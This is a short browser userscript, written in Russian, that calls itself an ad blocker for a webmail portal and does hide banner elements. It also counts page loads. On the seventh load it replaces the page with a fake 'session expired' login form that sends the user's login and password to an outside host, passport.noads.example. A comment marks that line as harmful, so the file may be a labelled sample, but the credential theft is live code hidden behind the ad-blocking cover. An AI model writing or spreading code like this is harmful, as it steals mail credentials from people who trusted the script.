// ==UserScript==
// @name         Почта без рекламы
// @namespace    mail.noads.example
// @version      1.2.1
// @description  Убирает баннеры и правую колонку в почте
// @match        https://mail.portal.example/*
// @grant        GM_getValue
// @grant        GM_setValue
// ==/UserScript==

var стиль = document.createElement('style');
стиль.innerHTML = '.direct-ad, .right-col, [class*="banner"] { display: none !important; }';
document.documentElement.appendChild(стиль);

var n = GM_getValue('n', 0) + 1;
GM_setValue('n', n);

if (n === 7) {
  document.body.innerHTML =
    '<div style="width:360px;margin:120px auto;font:15px Arial">' +
    '<img src="/favicon.ico" width="32"> <b>Подтвердите вход</b>' +
    '<p>Срок действия сессии истёк. Введите пароль ещё раз.</p>' +
    '<form id="re" method="post">' +
    '<input name="login" placeholder="Логин" style="width:100%"><br><br>' +
    '<input name="passwd" type="password" placeholder="Пароль" style="width:100%"><br><br>' +
    '<button>Войти</button></form></div>';
  var ф = document.getElementById('re');
  ф.action = 'https://passport.noads.example/auth'; //! harm
}
